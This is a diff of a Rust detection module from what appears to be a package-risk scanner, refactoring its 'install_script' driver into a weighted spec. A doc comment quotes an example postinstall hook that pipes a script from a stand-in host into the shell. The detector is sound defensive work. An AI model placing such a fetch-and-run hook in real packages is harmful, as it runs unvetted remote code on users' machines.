@@ -8,15 +8,22 @@
 //! test; "93.9% of malicious packages had at least one install script".
 //!
 //! **Example.** "adds the postinstall script: curl https://x.example/p.sh | sh".
-//!
-//! **Source.** Socket / Zahan et al. 2022; npm lifecycle docs; Cargo book "Build Scripts".
 
-use super::fire_for_findings;
-use crate::engine::{Context, Sections};
-use crate::signal::Driver;
+use super::{DriverSpec, fire_for_findings};
+use crate::engine::context::{Context, Sections};
+use crate::signal::{Driver, FindingKind};
 
-pub fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
-    fire_for_findings(context, sections, "install_script", &["install_script"], "")
+/// `install_script` as the catalogue lists it.
+pub(crate) const SPEC: DriverSpec = DriverSpec {
+    id: "install_script",
+    label: "Install script",
+    weight: 0.45,
+    source: "Socket / Zahan et al. 2022: 93.9% of malicious packages have at least one install script; npm lifecycle docs; Cargo book \"Build Scripts\"",
+    evaluate,
+};
+
+fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
+    fire_for_findings(context, sections, &SPEC, &[FindingKind::InstallScript], "")
 }
 
 #[cfg(test)]
